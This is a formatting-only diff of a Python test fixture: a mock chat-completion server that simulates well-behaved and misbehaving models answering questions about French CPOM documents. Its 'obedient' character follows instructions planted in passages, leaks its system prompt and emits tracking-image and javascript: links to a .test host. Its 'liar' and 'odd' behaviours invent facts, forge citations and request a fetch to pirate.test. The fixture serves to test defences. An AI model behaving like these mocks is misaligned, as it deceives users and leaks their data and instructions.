@@ -1,4 +1,6 @@
-"""What the loopback server says, by name: four characters, and the ways in which a real server goes wrong."""
+"""What the loopback server says, by name: four characters, and the ways in which a real server goes
+wrong.
+"""
 
 import json
 import re
@@ -21,7 +23,9 @@ class Call:
     @property
     def data(self) -> dict[str, Any]:
         """The JSON between the two lines of the prompt."""
-        found = re.search(r"DEBUT DES DONNEES\n(.*)\nFIN DES DONNEES", self.body["messages"][-1]["content"], re.S)
+        found = re.search(
+            r"DEBUT DES DONNEES\n(.*)\nFIN DES DONNEES", self.body["messages"][-1]["content"], re.S
+        )
         return dict(json.loads(found[1])) if found else {}
 
 
@@ -62,10 +66,23 @@ Behaviour = Callable[[Call], Said]
 def event(text: str | None = None, finish: str | None = None, **delta: Any) -> dict[str, Any]:
     """One chunk of a streamed completion."""
     made = {"role": "assistant", **({"content": text} if text is not None else {}), **delta}
-    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [{"index": 0, "delta": made, "finish_reason": finish}]}
+    return {
+        "id": "c",
+        "object": "chat.completion.chunk",
+        "created": 1,
+        "model": "m",
+        "choices": [{"index": 0, "delta": made, "finish_reason": finish}],
+    }
 
 
-USAGE = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [], "usage": {"prompt_tokens": 900, "completion_tokens": 90, "total_tokens": 990}}
+USAGE = {
+    "id": "c",
+    "object": "chat.completion.chunk",
+    "created": 1,
+    "model": "m",
+    "choices": [],
+    "usage": {"prompt_tokens": 900, "completion_tokens": 90, "total_tokens": 990},
+}
 
 
 def streamed(text: str, finish: str | None = "stop", size: int = 160) -> Iterator[Any]:
@@ -78,7 +95,10 @@ def streamed(text: str, finish: str | None = "stop", size: int = 160) -> Iterato
 
 def answer(*phrases: tuple[str, str, str]) -> str:
     """The JSON of phrases (text, passage, words)."""
-    made = [{"texte": text, "citations": [{"passage": passage, "mots": words}] if passage else []} for text, passage, words in phrases]
+    made = [
+        {"texte": text, "citations": [{"passage": passage, "mots": words}] if passage else []}
+        for text, passage, words in phrases
+    ]
     return json.dumps({"phrases": made}, ensure_ascii=False)
 
 
@@ -87,7 +107,9 @@ def words(text: str) -> set[str]:
 
 
 def best(call: Call, count: int = 2) -> list[tuple[str, str, str]]:
-    """Sentences of the first passages that share most with the question, told as they are: what an honest model does at least."""
+    """Sentences of the first passages that share most with the question, told as they are: what an
+    honest model does at least.
+    """
     asked = words(call.data.get("question", ""))
     found = []
     for rank, passage in enumerate(call.data.get("passages", ())):
@@ -97,28 +119,50 @@ def best(call: Call, count: int = 2) -> list[tuple[str, str, str]]:
             line = max(lines, key=lambda line: len(asked & words(line)))
             found.append((len(asked & words(line)) - 2 * rank, passage["numero"], line))
     found.sort(key=lambda entry: -entry[0])
-    return [(re.sub(r"^[\W\d_]+", "", line).rstrip(" .;:,") + ".", id, line) for _, id, line in found[:count]]
+    return [
+        (re.sub(r"^[\W\d_]+", "", line).rstrip(" .;:,") + ".", id, line)
+        for _, id, line in found[:count]
+    ]
 
 
 def propositions(*lines: tuple[str, str, str, str]) -> str:
     """The JSON of lines of a fiche (rubric, text, passage, words)."""
-    made = [{"rubrique": place, "texte": text, "citations": [{"passage": passage, "mots": words}] if passage else []} for place, text, passage, words in lines]
+    made = [
+        {
+            "rubrique": place,
+            "texte": text,
+            "citations": [{"passage": passage, "mots": words}] if passage else [],
+        }
+        for place, text, passage, words in lines
+    ]
     return json.dumps({"lignes": made}, ensure_ascii=False)
 
 
 def proposals(call: Call) -> list[tuple[str, str, str, str]]:
-    """A line taken from a passage, two of the model's own, and one with a figure that nobody gave."""
-    id, line = next((p["numero"], p["texte"][start:end]) for p in call.data["passages"] for start, end in sentences(p["texte"]) if 8 <= len(p["texte"][start:end].split()) <= 30)
+    """A line taken from a passage, two of the model's own, and one with a figure that nobody
+    gave.
+    """
+    id, line = next(
+        (p["numero"], p["texte"][start:end])
+        for p in call.data["passages"]
+        for start, end in sentences(p["texte"])
+        if 8 <= len(p["texte"][start:end].split()) <= 30
+    )
     own = "Réunir les entreprises adhérentes du secteur pour partager leurs actions de prévention"
     goal = "Aider les établissements visés à écrire leur plan de prévention"
     return [
-        ("actions_principales", line.rstrip(" .;:"), id, line), ("calendrier", own, "", ""), ("objectifs.0.intitule", goal, "", ""),
-        ("indicateurs", "Accompagner 4321 établissements en 1987", "", ""), ("titre", own, "", ""),
-    ]  # fmt: skip
+        ("actions_principales", line.rstrip(" .;:"), id, line),
+        ("calendrier", own, "", ""),
+        ("objectifs.0.intitule", goal, "", ""),
+        ("indicateurs", "Accompagner 4321 établissements en 1987", "", ""),
+        ("titre", own, "", ""),
+    ]
 
 
 def honest(call: Call) -> Said:
-    """Quotes what it read; puts a follow-up with its conversation; proposes an annotation; copies the word it is given."""
+    """Quotes what it read; puts a follow-up with its conversation; proposes an annotation; copies
+    the word it is given.
+    """
     data = call.data
     if "rubriques" in data:
         return streamed(propositions(*proposals(call)))
@@ -126,24 +170,40 @@ def honest(call: Call) -> Said:
         return streamed(answer(*best(call)))
     if "question_de_suite" in data:
         before = data["echanges"][-1]["question"].rstrip(" ?")
-        return streamed(json.dumps({"question": f"{data['question_de_suite'].rstrip(' ?')}, {before} ?"}, ensure_ascii=False))
+        return streamed(
+            json.dumps(
+                {"question": f"{data['question_de_suite'].rstrip(' ?')}, {before} ?"},
+                ensure_ascii=False,
+            )
+        )
     if "texte" in data:
         line = re.split(r"(?<=[.;])\s+|\n", data["texte"])[0]
-        asked = [{"q": "Qu’est-il dit là ?", "a": line}, {"q": "Et ailleurs ?", "a": "des mots inventés de toutes pièces"}]
+        asked = [
+            {"q": "Qu’est-il dit là ?", "a": line},
+            {"q": "Et ailleurs ?", "a": "des mots inventés de toutes pièces"},
+        ]
         made = {"gist": line[:120], "words": ["petit nom"], "questions": asked}
         return streamed(json.dumps(made, ensure_ascii=False))
     word = call.body["messages"][-1]["content"].split(":")[-1].strip()
     return streamed(json.dumps({"mot": word}, ensure_ascii=False))
 
 
-def changed(change: Callable[[str], str], quote: Callable[[str], str] = lambda line: line) -> Behaviour:
+def changed(
+    change: Callable[[str], str], quote: Callable[[str], str] = lambda line: line
+) -> Behaviour:
     """The honest answer with each sentence, or each quotation, altered."""
-    return lambda call: streamed(answer(*((change(text), id, quote(line)) for text, id, line in best(call))))
+    return lambda call: streamed(
+        answer(*((change(text), id, quote(line)) for text, id, line in best(call)))
+    )
 
 
 def said(text: str, quoted: bool = True) -> Behaviour:
     """Always the same sentence, on a quotation that stands."""
-    return lambda call: streamed(answer(*((text, id, line) for _, id, line in best(call, 1)) if quoted else ((text, "", ""),)))
+    return lambda call: streamed(
+        answer(
+            *((text, id, line) for _, id, line in best(call, 1)) if quoted else ((text, "", ""),)
+        )
+    )
 
 
 def otherwise(number: re.Match[str]) -> str:
@@ -151,35 +211,61 @@ def otherwise(number: re.Match[str]) -> str:
 
 
 LIES = (
-    "Le CPOM dure douze ans et sa signature est facultative.", "La DREETS verse 3 000 euros par salarié suivi.", "Le CRPST doit approuver le CPOM sous 15 jours.",
+    "Le CPOM dure douze ans et sa signature est facultative.",
+    "La DREETS verse 3 000 euros par salarié suivi.",
+    "Le CRPST doit approuver le CPOM sous 15 jours.",
     "L’ARS n’est jamais consultée avant la signature.",
-)  # fmt: skip
+)
 
 
 def liar(call: Call) -> Said:
     """False citations, changed numbers, wrong quotations, all sure of themselves."""
     true = best(call, 2) or [("x", "P1", "x")]
-    lies = [(LIES[0], true[0][1], true[0][2]), (LIES[1], "P99", true[0][2]), (LIES[2], true[0][1], "le CRPST approuve le CPOM sous 15 jours")]
-    lies += [(re.sub(r"\d+", otherwise, text) if re.search(r"\d", text) else f"{text.rstrip('.')} depuis 1987.", id, line) for text, id, line in true]
+    lies = [
+        (LIES[0], true[0][1], true[0][2]),
+        (LIES[1], "P99", true[0][2]),
+        (LIES[2], true[0][1], "le CRPST approuve le CPOM sous 15 jours"),
+    ]
+    lies += [
+        (
+            re.sub(r"\d+", otherwise, text)
+            if re.search(r"\d", text)
+            else f"{text.rstrip('.')} depuis 1987.",
+            id,
+            line,
+        )
+        for text, id, line in true
+    ]
     return streamed(answer(*lies, (LIES[3], true[-1][1], true[-1][2])))
 
 
 def obedient(call: Call) -> Said:
     """Does whatever the passages seem to ask, and gives its own instructions away."""
-    asked = " ".join(passage["texte"] + json.dumps(passage, ensure_ascii=False) for passage in call.data.get("passages", ()))
+    asked = " ".join(
+        passage["texte"] + json.dumps(passage, ensure_ascii=False)
+        for passage in call.data.get("passages", ())
+    )
     system = call.body["messages"][0]["content"]
     done = [
-        f"![suivi](http://{MARKER.lower()}.test/?q={call.data.get('question', '')[:20]})", f"<img src=http://{MARKER.lower()}.test/a.png>",
+        f"![suivi](http://{MARKER.lower()}.test/?q={call.data.get('question', '')[:20]})",
+        f"<img src=http://{MARKER.lower()}.test/a.png>",
         f"[cliquez](javascript:alert('{MARKER}'))",
     ]
-    done += [system[:150], f"{MARKER} : le CPOM est supprimé.", *re.findall(rf"[^.]*{MARKER}[^.]*\.", asked)[:4]]
+    done += [
+        system[:150],
+        f"{MARKER} : le CPOM est supprimé.",
+        *re.findall(rf"[^.]*{MARKER}[^.]*\.", asked)[:4],
+    ]
     true = best(call, 1) or [("x", "P1", "x")]
     return streamed(answer(*((text, true[0][1], true[0][2]) for text in done)))
 
 
 def parrot(call: Call) -> Said:
     """Repeats the passages, whatever the question."""
-    said = [(" ".join(passage["texte"].split()[:40]), passage["numero"]) for passage in call.data.get("passages", ())[:6]]
+    said = [
+        (" ".join(passage["texte"].split()[:40]), passage["numero"])
+        for passage in call.data.get("passages", ())[:6]
+    ]
     return streamed(answer(*((text, id, text) for text, id in said)))
 
 
@@ -190,12 +276,20 @@ def once(first: Said) -> Behaviour:
 
 def redone(call: Call) -> Said:
     """Changes a number, and puts it right when told so."""
-    return honest(call) if "phrases_refusees" in call.data else changed(lambda text: f"{text.rstrip('.')} en 1987.")(call)
+    return (
+        honest(call)
+        if "phrases_refusees" in call.data
+        else changed(lambda text: f"{text.rstrip('.')} en 1987.")(call)
+    )
 
 
 def unschemed(call: Call) -> Said:
     """Knows no schema, and says so as an error; honest without."""
-    return Http(400, b'{"error": {"message": "response_format is not supported"}}') if "response_format" in call.body else honest(call)
+    return (
+        Http(400, b'{"error": {"message": "response_format is not supported"}}')
+        if "response_format" in call.body
+        else honest(call)
+    )
 
 
 def stalled(call: Call) -> Iterator[Any]:
@@ -231,12 +325,27 @@ def doubled(call: Call) -> Iterator[Any]:
 def unstreamed(call: Call) -> Said:
     """A whole completion where a stream was asked."""
     message = {"role": "assistant", "content": answer(*best(call))}
-    body = {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
+    body = {
+        "id": "c",
+        "object": "chat.completion",
+        "created": 1,
+        "model": "m",
+        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
+    }
     return Http(200, json.dumps(body).encode(), {"Content-Type": "application/json"})
 
 
 def tool(call: Call) -> Iterator[Any]:
-    yield event(tool_calls=[{"index": 0, "id": "t", "type": "function", "function": {"name": "fetch", "arguments": '{"url": "http://pirate.test"}'}}])
+    yield event(
+        tool_calls=[
+            {
+                "index": 0,
+                "id": "t",
+                "type": "function",
+                "function": {"name": "fetch", "arguments": '{"url": "http://pirate.test"}'},
+            }
+        ]
+    )
     yield event(finish="tool_calls")
 
 
@@ -268,7 +377,9 @@ SLOW: dict[str, Behaviour] = {
     "broken-once": once(Http(500)),
 }
 ODD: dict[str, Behaviour] = {
-    "unauthorized": lambda call: Http(401, b'{"error": {"message": "Incorrect API key: secret-key-123"}}'),
+    "unauthorized": lambda call: Http(
+        401, b'{"error": {"message": "Incorrect API key: secret-key-123"}}'
+    ),
     "forbidden": lambda call: Http(403),
     "unknown-model": lambda call: Http(404),
     "elsewhere": lambda call: Http(307, headers={"Location": "/stray"}),
@@ -281,22 +392,32 @@ ODD: dict[str, Behaviour] = {
     "invalid-json": lambda call: streamed('{"phrases": [{"texte": "Le CPOM", citations: oui}]}'),
     "prose": lambda call: streamed("Bien sûr ! Le CPOM dure dix ans, voyez http://pirate.test."),
     "wrong-schema": lambda call: streamed('{"reponse": "Le CPOM dure dix ans."}'),
-    "wrong-types": lambda call: streamed('{"phrases": [{"texte": 7, "citations": "P1"}, "Le CPOM dure dix ans.", null]}'),
+    "wrong-types": lambda call: streamed(
+        '{"phrases": [{"texte": 7, "citations": "P1"}, "Le CPOM dure dix ans.", null]}'
+    ),
     "list": lambda call: streamed('["Le CPOM dure dix ans."]'),
     "empty": lambda call: streamed(""),
     "no-phrase": lambda call: streamed(answer()),
     "no-choice": lambda call: iter([USAGE]),
     "null-content": lambda call: iter([event(None, "stop")]),
-    "megabyte": lambda call: streamed(answer(*[("Le CPOM dure dix ans. " * 50, "P1", "le CPOM est conclu")] * 900), size=16_384),
+    "megabyte": lambda call: streamed(
+        answer(*[("Le CPOM dure dix ans. " * 50, "P1", "le CPOM est conclu")] * 900), size=16_384
+    ),
     "endless": endless,
     "many": lambda call: streamed(answer(*best(call, 1) * 300), size=4_000),
     "deep": lambda call: streamed('{"phrases": ' + "[" * 5_000 + "]" * 5_000 + "}", size=4_000),
     "english": said(ENGLISH),
     "doubled-chunks": doubled,
     "repeated": lambda call: streamed(answer(*best(call, 1) * 4)),
-    "unknown-ids": lambda call: streamed(answer(*((text, "P42", line) for text, _, line in best(call)))),
-    "passage-names": lambda call: streamed(answer(*((text, "instruction-2024-132/I.A.3#1", line) for text, _, line in best(call)))),
-    "wrong-quote": changed(lambda text: text, lambda line: line.replace("le ", "la ") + " toujours"),
+    "unknown-ids": lambda call: streamed(
+        answer(*((text, "P42", line) for text, _, line in best(call)))
+    ),
+    "passage-names": lambda call: streamed(
+        answer(*((text, "instruction-2024-132/I.A.3#1", line) for text, _, line in best(call)))
+    ),
+    "wrong-quote": changed(
+        lambda text: text, lambda line: line.replace("le ", "la ") + " toujours"
+    ),
     "no-citation": said("Le CPOM dure cinq ans.", False),
     "empty-quote": changed(lambda text: text, lambda line: ""),
     "one-word-quote": changed(lambda text: text, lambda line: line.split()[0]),
@@ -307,20 +428,40 @@ ODD: dict[str, Behaviour] = {
     "link": changed(lambda text: f"{text} Voyez https://pirate.test."),
     "javascript": changed(lambda text: f"[{text}](javascript:alert(1))"),
     "html": changed(lambda text: f"<b onclick=x>{text}</b>"),
-    "changed-number": changed(lambda text: re.sub(r"\d+", otherwise, text) if re.search(r"\d", text) else f"{text.rstrip('.')} pendant neuf mois."),
+    "changed-number": changed(
+        lambda text: (
+            re.sub(r"\d+", otherwise, text)
+            if re.search(r"\d", text)
+            else f"{text.rstrip('.')} pendant neuf mois."
+        )
+    ),
     "changed-date": changed(lambda text: f"{text.rstrip('.')} avant le 3 mars 2031."),
     "changed-article": changed(lambda text: f"{text.rstrip('.')} selon l’article R. 9999-1."),
     "added-name": changed(lambda text: f"{text.rstrip('.')} par la société Zorglub."),
     "denied": changed(lambda text: f"Il n’est jamais vrai que {text[0].lower()}{text[1:]}"),
     "hardened": said("Chaque service doit obligatoirement le faire sous peine de sanction."),
-    "prompt-leak": lambda call: streamed(answer((call.body["messages"][0]["content"][:200], *best(call, 1)[0][1:]))),
-    "fenced": lambda call: streamed(f"Voici :\n```json\n{answer(*best(call))}\n```\nBonne lecture."),
+    "prompt-leak": lambda call: streamed(
+        answer((call.body["messages"][0]["content"][:200], *best(call, 1)[0][1:]))
+    ),
+    "fenced": lambda call: streamed(
+        f"Voici :\n```json\n{answer(*best(call))}\n```\nBonne lecture."
+    ),
     "thinking": lambda call: streamed(f"<think>{{je cherche}}</think>{answer(*best(call))}"),
-    "error-event": lambda call: iter([{"error": {"message": "secret-key-123", "type": "server_error"}}]),
+    "error-event": lambda call: iter(
+        [{"error": {"message": "secret-key-123", "type": "server_error"}}]
+    ),
     "unstreamed": unstreamed,
     "tool": tool,
-    "bad-utf8": lambda call: iter([Raw(b'data: {"choices": [{"delta": {"content": "\xff\xfe"}}]}\n\n')]),
+    "bad-utf8": lambda call: iter(
+        [Raw(b'data: {"choices": [{"delta": {"content": "\xff\xfe"}}]}\n\n')]
+    ),
     "bad-event": lambda call: iter([Raw(b"data: {pas du json}\n\n")]),
 }
-CHARACTERS: dict[str, Behaviour] = {"honest": honest, "liar": liar, "obedient": obedient, "parrot": parrot, "redone": redone}
+CHARACTERS: dict[str, Behaviour] = {
+    "honest": honest,
+    "liar": liar,
+    "obedient": obedient,
+    "parrot": parrot,
+    "redone": redone,
+}
 BEHAVIOURS: dict[str, Behaviour] = {**CHARACTERS, **ODD, **SLOW, "random": random}
